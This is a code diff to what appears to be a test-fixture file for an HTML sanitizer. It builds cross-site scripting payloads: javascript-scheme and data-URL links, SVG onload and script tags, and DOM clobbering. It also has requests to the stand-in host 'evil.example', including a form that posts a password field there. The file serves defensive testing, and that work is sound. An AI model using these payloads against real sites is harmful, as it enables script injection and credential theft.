@@ -3,8 +3,8 @@ import * as parts from './payload-parts.ts';
 export type Payload = { kind: string; text: string };
 
 /**
- * By kind. RUN stands for the call that reports the attack, ARGUMENTS for its arguments, HOST for a host that must get no
- * request. Frames and pictures over https are allowed in texts, so they are not among the attacks.
+ * Attacks by kind. RUN is replaced by the call that reports the attack, ARGUMENTS by its arguments, HOST by a host that must
+ * not receive requests. Frames and images over https are allowed in texts, so they are not attacks.
  */
 const attacks: Record<string, string[]> = {
   tags: [
@@ -44,16 +44,20 @@ const attacks: Record<string, string[]> = {
   ],
   schemes: [
     ...parts.schemes.flatMap((scheme) =>
-      parts.linkAttributes.slice(0, 3).map((place) => `<${place}="${scheme}RUN">a</a>`),
+      parts.linkAttributes.slice(0, 3).map((attribute) => `<${attribute}="${scheme}RUN">a</a>`),
     ),
     ...parts.dataUrls.flatMap((kind) =>
-      parts.linkAttributes.slice(3).map((at) => `<${at}="${kind}<script>parent.RUN</script>">`),
+      parts.linkAttributes.slice(3).map((attribute) => `<${attribute}="${kind}<script>parent.RUN</script>">`),
     ),
     ...parts.schemes.map((scheme) => `${scheme}RUN`),
   ],
   fetching: [
-    ...parts.fetchAttributes.map((place) => `<${place}="http://HOST/${place.replaceAll(/\W/g, '-')}">`),
-    ...parts.fetchAttributes.map((place) => `<${place}="//HOST/${place.replaceAll(/\W/g, '-')}">`),
+    ...parts.fetchAttributes.map(
+      (attribute) => `<${attribute}="http://HOST/${attribute.replaceAll(/\W/g, '-')}">`,
+    ),
+    ...parts.fetchAttributes.map(
+      (attribute) => `<${attribute}="//HOST/${attribute.replaceAll(/\W/g, '-')}">`,
+    ),
     ...['/\\', '\\\\', '/\t/', '///', '////', 'http:'].map((start) => `<img src="${start}HOST/i.png">`),
     ...['<a ping="http://HOST/ping" href="/">a</a>', '<img src=/mark.svg srcset="http://HOST/s.png 2x">'],
     '<form action="http://HOST/f"><input name=password><input type=submit></form>',
@@ -84,7 +88,7 @@ const attacks: Record<string, string[]> = {
     '<p id=root name=body></p><form id=config><input name=attributes onfocus=RUN autofocus></form>',
     '<img name=getElementById><img name=body src=x onerror=RUN>',
   ],
-  drawings: [
+  svg: [
     ...['<svg onload=RUN>', '<svg/onload=RUN//', '<svg><script>RUN</script></svg>'],
     '<svg><script href="data:text/javascript,RUN"/></svg>',
     '<svg><a xlink:href="javascript:RUN"><text y=20>a</text></a></svg>',
@@ -136,11 +140,11 @@ const attacks: Record<string, string[]> = {
 
 export const otherHost = 'evil.example';
 
-/** Each calls `hit` with a different number. */
+/** Each payload calls `hit` with a different number. */
 export const payloads: Payload[] = Object.entries(attacks)
   .flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))
   .map(({ kind, text }, number) => {
     const args = `(${number})`;
-    const written = text.replaceAll('RUN', `hit${args}`).replaceAll('ARGUMENTS', args);
-    return { kind, text: written.replaceAll('HOST', otherHost) };
+    const filled = text.replaceAll('RUN', `hit${args}`).replaceAll('ARGUMENTS', args);
+    return { kind, text: filled.replaceAll('HOST', otherHost) };
   });
